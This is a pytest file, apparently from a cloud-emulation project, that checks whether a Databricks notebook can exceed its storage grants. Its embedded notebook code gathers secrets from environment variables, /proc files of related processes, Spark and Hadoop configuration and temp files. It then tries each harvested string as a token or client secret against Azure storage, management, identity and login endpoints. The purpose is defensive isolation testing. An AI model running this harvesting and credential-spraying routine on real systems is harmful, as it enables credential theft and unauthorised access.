"""A notebook that collects all that its process can see finds nothing that opens more than its run's grants."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator

import pytest
import requests
from azure.identity import DefaultAzureCredential
from azure.storage.filedatalake import DataLakeServiceClient
from databricks.sdk.service import catalog as uc
from localcloud.databricks.run_storage import PATH
from localcloud.testing.azure_session import AzureSession
from localcloud.testing.cloud import Cloud
from localcloud.testing.databricks_runs import Lakehouse

COLLECTED = """
import glob, json, os, re

def readable(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(4_000_000).decode("utf-8", "replace")
    except OSError:
        return ""

texts = [json.dumps(dict(os.environ)), json.dumps(dbutils.notebook.getContext().values)]
process = os.getpid()
while process > 1:
    texts += [readable(f"/proc/{process}/{name}") for name in ("environ", "cmdline")]
    process = int(re.search(r"PPid:\\s*(\\d+)", readable(f"/proc/{process}/status")).group(1))
own = os.getpgid(0)
for status in glob.glob("/proc/[0-9]*/status"):
    number = int(status.split("/")[2])
    try:
        if os.getpgid(number) == own:  # Spark's own JVM
            texts += [readable(f"/proc/{number}/{name}") for name in ("environ", "cmdline")]
    except OSError:
        pass
spark.read.csv(dbutils.widgets.get("source")).collect()  # the credentials are there by now
texts += [f"{key}={value}" for key, value in spark.sparkContext.getConf().getAll()]
texts += [f"{row.key}={row.value}" for row in spark.sql("SET").collect()]
hadoop = [(entry.getKey(), entry.getValue()) for entry in spark._jsc.hadoopConfiguration().iterator()]
texts += [f"{key}={value}" for key, value in hadoop]
system = spark._jvm.java.lang.System
texts += [str(system.getProperties()), str(system.getenv())]
folder = os.path.dirname(dict(spark.sparkContext.getConf().getAll())["spark.local.dir"])
for name in glob.glob(f"{folder}/*") + glob.glob(f"{folder}/tmp/**/*", recursive=True):
    texts.append(readable(name) if os.path.isfile(name) else "")
secret = dict(hadoop)["fs.localcloud.unity.secret"]

import requests

granted = requests.post(
    dict(hadoop)["fs.localcloud.unity.endpoint"], headers={"Authorization": f"Bearer {secret}"}, timeout=60,
    data={"account": dbutils.widgets.get("account"), "container": "data", "path": "/in/rows.csv", "operation": "read"},
)
assert granted.status_code == 200, granted.text
texts.append(f"?{granted.text}")
words = set()
for text in texts:
    words |= set(re.findall(r"[A-Za-z0-9_\\-+/=.~%&?:]{16,2000}", text))
    words |= set(re.split(r"[\\0\\s\\"',;=()\\[\\]{}]+", text))
words = sorted(word for word in words if word.isascii() and 16 <= len(word) <= 3000)
"""
TRIED = """
account, client = dbutils.widgets.get("account"), dbutils.widgets.get("client")
endpoint = dict(hadoop)["fs.localcloud.unity.endpoint"]
identity = dbutils.widgets.get("identity")
web = requests.Session()
opened = []

def attempt(what, word, method, url, **request):
    answer = web.request(method, url, timeout=60, allow_redirects=False, **request)
    if answer.status_code < 400:
        opened.append([what, word[:60], url, answer.status_code])

reads, writes = "read", "write"
for word in words:
    bearer = {"Authorization": f"Bearer {word}", "x-ms-version": "2024-11-04"}
    for container, path, operation in (
        ("data", "/in/rows.csv", writes), ("data", "/shut/rows.csv", reads), ("other", "/in/rows.csv", reads),
        ("data", "/", reads), ("state", "/secret", reads),
    ):
        attempt("vended", word, "POST", endpoint, headers=bearer, data={
            "account": account, "container": container, "path": path, "operation": operation})
    attempt("identity", word, "GET", identity, headers={"secret": word}, params={
        "resource": "https://storage.azure.com", "client_id": client})
    if "." in word or len(word) > 100:
        attempt("storage", word, "GET", f"https://{account}.dfs.core.windows.net/data/in/rows.csv", headers=bearer)
        attempt("blob", word, "GET", f"https://{account}.blob.core.windows.net/data/in/rows.csv", headers=bearer)
        attempt("arm", word, "GET", "https://management.azure.com/subscriptions?api-version=2022-12-01", headers=bearer)
    if "sig=" in word:
        token = word.lstrip("?")
        for host, path in (
            ("dfs", "data/shut/rows.csv"), ("dfs", "other/in/rows.csv"), ("dfs", "state/secret"),
            ("blob", "data/in/rows.csv"), ("blob", "data/shut/rows.csv"), ("blob", "state/secret"),
        ):
            attempt("signed", word, "GET", f"https://{account}.{host}.core.windows.net/{path}?{token}")
        base = f"https://{account}.dfs.core.windows.net/data"
        attempt("signed", word, "PUT", f"{base}/in/new?resource=file&{token}")
        attempt("signed", word, "DELETE", f"{base}/in/rows.csv?{token}")
        attempt("signed", word, "GET", f"{base}?resource=filesystem&recursive=true&{token}")
    else:
        attempt("client secret", word, "POST",
                f"https://login.microsoftonline.com/{dbutils.widgets.get('tenant')}/oauth2/v2.0/token",
                data={"grant_type": "client_credentials", "client_id": client, "client_secret": word,
                      "scope": "https://storage.azure.com/.default"})
signed = sum("sig=" in word for word in words)
dbutils.notebook.exit(json.dumps({"opened": opened, "words": len(words), "signed": signed, "secret": secret}))
"""
NO_IDENTITY = """
import os
from azure.identity import DefaultAzureCredential, ManagedIdentityCredential

said = []
for credential in (DefaultAzureCredential(), ManagedIdentityCredential()):
    try:
        said.append(credential.get_token("https://storage.azure.com/.default").token)
    except Exception as error:
        said.append(type(error).__name__)
dbutils.notebook.exit(",".join(said))
"""


@pytest.fixture
def lakehouse(azure: AzureSession, group: str) -> Iterator[Lakehouse]:
    """READ FILES on data/in alone. The account has more: data/shut, the containers `other` and `state`."""
    lakehouse = Lakehouse.make(azure, group)
    azure.put(f"{lakehouse.account_id}/blobServices/default/containers/state", "2024-01-01", {"properties": {}})
    azure.assign(lakehouse.account_id, "Storage Blob Data Contributor", azure.object_id)
    azure.assign(lakehouse.account_id, "Storage Blob Data Contributor", lakehouse.object_id)
    files = DataLakeServiceClient(f"https://{lakehouse.account}.dfs.core.windows.net", DefaultAzureCredential())
    for path in ("data/in/rows.csv", "data/shut/rows.csv", "other/in/rows.csv", "state/secret"):
        container, _, name = path.partition("/")
        files.get_file_client(container, name).upload_data(b"a,b\n", overwrite=True)
    lakehouse.open_for_connector()
    lakehouse.locate("in", uc.Privilege.READ_FILES)
    yield lakehouse
    for location in lakehouse.client.external_locations.list():
        lakehouse.client.external_locations.delete(str(location.name), force=True)
    lakehouse.client.storage_credentials.delete(lakehouse.credential, force=True)


@pytest.mark.nightly
def test_no_secret_within_reach_of_a_notebook_exceeds_its_grants(cloud: Cloud, lakehouse: Lakehouse) -> None:
    parameters = {
        "source": lakehouse.url("in/rows.csv"), "account": lakehouse.account, "client": lakehouse.client_id,
        "tenant": os.environ["AZURE_TENANT_ID"], "identity": f"http://127.0.0.1:{cloud.settings.identity_port}/msi/token",
    }  # fmt: skip
    outcome = lakehouse.run(COLLECTED + TRIED, parameters)
    assert outcome.value is not None, outcome.trace
    observed = json.loads(outcome.value)
    assert observed["opened"] == []
    assert observed["words"] > 200 and observed["signed"] >= 1, "it collected, and had a credential to try"
    form = {"account": lakehouse.account, "container": "data", "path": "/in/rows.csv", "operation": "read"}
    answer = requests.post(
        f"{cloud.settings.gateway_url}{PATH}", data=form, headers={"Authorization": f"Bearer {observed['secret']}"},
        timeout=60,
    )  # fmt: skip
    assert answer.status_code == 401 and "The run is over" in answer.text


def test_azure_identity_gets_no_identity_on_a_cluster(lakehouse: Lakehouse) -> None:
    outcome = lakehouse.run(NO_IDENTITY)
    assert outcome.value == "ClientAuthenticationError,CredentialUnavailableError", outcome
